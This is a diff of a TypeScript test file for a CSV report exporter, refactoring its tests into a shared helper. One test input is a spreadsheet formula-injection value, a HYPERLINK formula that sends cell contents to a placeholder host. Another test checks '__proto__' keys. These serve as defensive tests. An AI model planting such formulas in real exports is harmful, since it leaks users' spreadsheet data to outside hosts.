@@ -6,6 +6,7 @@ import {
   reportToCsv,
   type CountsReader,
 } from "../../lib/report";
+import type { ReportDimension } from "../../lib/report-query";
 
 const ALL: [string, number][] = [
   ["Houston, TX", 30],
@@ -23,6 +24,9 @@ const source: CountsReader = {
 
 describe("report", () => {
   const now = new Date("2026-11-27T08:00:00.000Z");
+  /** The report of these counts (biggest first) by one dimension. */
+  const reportOf = (by: ReportDimension, counts: [string, number][]) =>
+    buildReport({ total: () => counts.length, counts: () => counts }, { by }, now);
 
   it("keeps the order of the counts (biggest first), the total and the filters", () => {
     const r = buildReport(source, { by: "city" }, now);
@@ -72,62 +76,34 @@ describe("report", () => {
   });
 
   it("writes CSV with city and state columns, quoting where needed", () => {
-    const r = buildReport(
-      {
-        total: () => 3,
-        counts: () => [
-          ["Winston-Salem, NC", 2],
-          ['Odd, "Name", ??', 1],
-        ],
-      },
-      { by: "city" },
-      now,
-    );
+    const r = reportOf("city", [
+      ["Winston-Salem, NC", 2],
+      ['Odd, "Name", ??', 1],
+    ]);
     expect(reportToCsv(r)).toBe('city,state,users\nWinston-Salem,NC,2\n"Odd, ""Name""",,1\n');
-    const states = buildReport(
-      {
-        total: () => 3,
-        counts: () => [
-          ["TX", 2],
-          ["??", 1],
-        ],
-      },
-      { by: "state" },
-      now,
-    );
+    const states = reportOf("state", [
+      ["TX", 2],
+      ["??", 1],
+    ]);
     expect(reportToCsv(states)).toBe("state,users\nTX,2\n,1\n");
   });
 
   it("writes place names that a spreadsheet would run as formulas as text", () => {
-    const r = buildReport(
-      {
-        total: () => 3,
-        counts: () => [
-          ['=HYPERLINK("http://x.example/?"&A1), ??', 1],
-          ["@SUM(1+1), TX", 1],
-          ["-Minus, ??", 1],
-        ],
-      },
-      { by: "city" },
-      now,
-    );
+    const r = reportOf("city", [
+      ['=HYPERLINK("http://x.example/?"&A1), ??', 1],
+      ["@SUM(1+1), TX", 1],
+      ["-Minus, ??", 1],
+    ]);
     expect(reportToCsv(r)).toBe(
       'city,state,users\n"\'=HYPERLINK(""http://x.example/?""&A1)",,1\n\'@SUM(1+1),TX,1\n\'-Minus,,1\n',
     );
   });
 
   it("counts a key named __proto__ like any other", () => {
-    const r = buildReport(
-      {
-        total: () => 3,
-        counts: () => [
-          ["US", 2],
-          ["__proto__", 1],
-        ],
-      },
-      { by: "country" },
-      now,
-    );
+    const r = reportOf("country", [
+      ["US", 2],
+      ["__proto__", 1],
+    ]);
     expect(Object.keys(r.stats)).toEqual(["US", "__proto__"]);
     expect((JSON.parse(JSON.stringify(r)) as typeof r).stats).toEqual(r.stats);
     expect(reportToCsv(r)).toBe("country,users\nUS,2\n__proto__,1\n");
